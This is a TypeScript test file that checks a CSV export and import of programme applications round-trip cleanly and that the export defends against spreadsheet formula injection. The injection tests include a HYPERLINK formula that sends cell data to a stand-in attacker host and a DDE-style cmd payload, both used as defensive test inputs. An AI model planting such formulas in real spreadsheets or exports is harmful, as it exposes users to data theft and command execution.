import { describe, expect, test } from 'vitest';
import type { ApplicationAnswers } from '../../../core/applications';
import {
  ANSWER_COLUMNS,
  EXPORT_COLUMNS,
  IMPORT_FIELD_OF_EXPORT_COLUMN,
  IMPORT_FIELDS,
} from '../../../core/applications/csv-columns';
import { guessColumnMapping, parseImportRow, readAnswerCells } from '../../../core/applications/csv-row';
import { getT } from '../../../i18n';
import { choiceNamesInEveryLanguage } from '../../../i18n/labels';
import type { ReviewedApplication } from '../../../services/ports/review';
import { exportHeader, exportRow, importHeaderNames, writeAnswerCells } from './csv-cells';

/** Export and import agree cell by cell: what one writes the other reads back unchanged. */
const t = getT('en');

// Every answer away from the reader's defaults, so that a cell read wrongly (or not at all) shows.
const answers = {
  name: 'Ana Silva',
  email: 'ana@example.org',
  countryOfResidence: 'BR',
  timeZone: 'America/Manaus',
  languages: [
    { code: 'pt', level: 'native' },
    { code: 'en', level: 'conversational' },
  ],
  sector: 'national-or-state',
  role: 'Metadata librarian; team lead',
  careerStage: 'late',
  yearsInProfession: 27,
  interests: ['information-technology', 'open-access'],
  otherInterests: 'Oral history',
  partnerPreference: { openToAnyone: false, sectors: ['lis-education', 'museum'], careerStages: ['student'] },
  availability: {
    emailOnly: false,
    windows: [
      { day: 'mon', startTime: '09:00', endTime: '11:30' },
      { day: 'sat', startTime: '18:00', endTime: '20:00' },
    ],
  },
  hopes: 'To compare, "notes" and all, how national libraries catalogue.',
  heardFrom: 'previous-round',
  heardFromDetail: 'The 2025 round',
  privacyConsent: true,
  codeOfConductAccepted: true,
} as ApplicationAnswers;

const roundTrip = (given: ApplicationAnswers) => {
  const cells = writeAnswerCells(t, 'en', given);
  return readAnswerCells((column) => cells[column], 'UTC', choiceNamesInEveryLanguage);
};

const answerPart = ({
  name,
  email,
  countryOfResidence,
  privacyConsent,
  codeOfConductAccepted,
  ...rest
}: ApplicationAnswers) => rest;

describe('application CSV columns', () => {
  test('every answer cell the export writes is read back as the same answer', () => {
    expect(roundTrip(answers)).toEqual(answerPart(answers));
  });

  test('the other way round too: email only, open to anyone, no windows', () => {
    const other = {
      ...answers,
      partnerPreference: { openToAnyone: true, sectors: [], careerStages: [] },
      availability: { emailOnly: true, windows: [] },
      heardFrom: 'other',
    } as ApplicationAnswers;
    expect(roundTrip(other)).toEqual(answerPart(other));
  });

  test('the export writes every answer column and the import has a field for each', () => {
    expect(Object.keys(writeAnswerCells(t, 'en', answers)).sort()).toEqual([...ANSWER_COLUMNS].sort());
    const isImportField = (name: string) => (IMPORT_FIELDS as readonly string[]).includes(name);
    const notReadBack = EXPORT_COLUMNS.filter(
      (column) => !isImportField(IMPORT_FIELD_OF_EXPORT_COLUMN[column] ?? column),
    );
    // Only the review's own columns are not read back: an import starts a new review.
    expect(notReadBack).toEqual(['id', 'status', 'likelyDuplicate', 'declineReason']);
  });
});

describe('formula injection (cells a spreadsheet would run)', () => {
  const hostile = '=HYPERLINK("http://evil.example/?x="&B2,"Click me")';
  const reviewed = (overrides: Partial<ApplicationAnswers>): ReviewedApplication => {
    const given = { ...answers, ...overrides };
    return {
      id: 'a-1',
      roundId: 'r-1',
      personId: null,
      email: given.email,
      name: given.name,
      countryCode: given.countryOfResidence,
      status: 'pending',
      answers: given,
      submittedAt: new Date('2027-02-01T09:00:00Z'),
      updatedAt: new Date('2027-02-01T09:00:00Z'),
      locale: 'en',
      declineReason: null,
      duplicateOf: null,
      duplicateReason: null,
      isLikelyDuplicate: false,
      declinedCarryOver: false,
    };
  };
  const cellOf = (row: string[], column: string) => row[EXPORT_COLUMNS.indexOf(column as never)]!;

  test.each([
    ['=', hostile],
    ['+', '+44 20 7946 0958'],
    ['-', '-1+2'],
    ['@', '@SUM(1+1)*cmd|" /C calc"!A0'],
    ['tab', '\t=1+1'],
    ['carriage return', '\r=1+1'],
    ['spaces before =', '   =1+1'],
    ['an apostrophe already there', "'=1+1"],
  ])('a cell starting with %s is exported as text, behind an apostrophe', (_kind, value) => {
    const row = exportRow(t, 'en', reviewed({ name: value, role: value, hopes: value }));
    for (const column of ['name', 'role', 'hopes']) expect(cellOf(row, column)).toBe(`'${value}`);
  });

  test('no exported cell starts with a formula character, the header included', () => {
    const row = exportRow(t, 'en', reviewed({ name: hostile, otherInterests: '@x', heardFromDetail: '-x' }));
    for (const cell of [...exportHeader(t), ...row]) expect(cell).not.toMatch(/^[\s]*[=+\-@\t\r]/);
  });

  test('ordinary values are exported as they are', () => {
    const row = exportRow(t, 'en', reviewed({ name: "O'Brien = Ana", role: 'Head of e-resources' }));
    expect(cellOf(row, 'name')).toBe("O'Brien = Ana");
    expect(cellOf(row, 'role')).toBe('Head of e-resources');
  });

  test('an exported file imported again gives back the values as given: no apostrophes pile up', () => {
    const mapping = guessColumnMapping(exportHeader(t), importHeaderNames);
    mapping.privacyConsent = 'yes';
    mapping.codeOfConductAccepted = 'yes';
    let current = reviewed({
      name: '=Ana+Silva',
      role: "'+Metadata librarian",
      otherInterests: '@oral history',
      hopes: '-- to compare notes --',
      heardFromDetail: "'quoted' on purpose",
      interests: ['information-technology', 'open-access', 'cataloguing'],
    });
    // Twice round: export, import, export again, import again.
    for (let pass = 0; pass < 2; pass++) {
      const parsed = parseImportRow(exportRow(t, 'en', current), mapping, 2, choiceNamesInEveryLanguage);
      expect(parsed.problems).toEqual([]);
      expect(parsed.answers!.name).toBe('=Ana+Silva');
      expect(parsed.answers!.role).toBe("'+Metadata librarian");
      expect(parsed.answers!.otherInterests).toBe('@oral history');
      expect(parsed.answers!.hopes).toBe('-- to compare notes --');
      expect(parsed.answers!.heardFromDetail).toBe("'quoted' on purpose");
      current = reviewed(parsed.answers!);
    }
  });
});
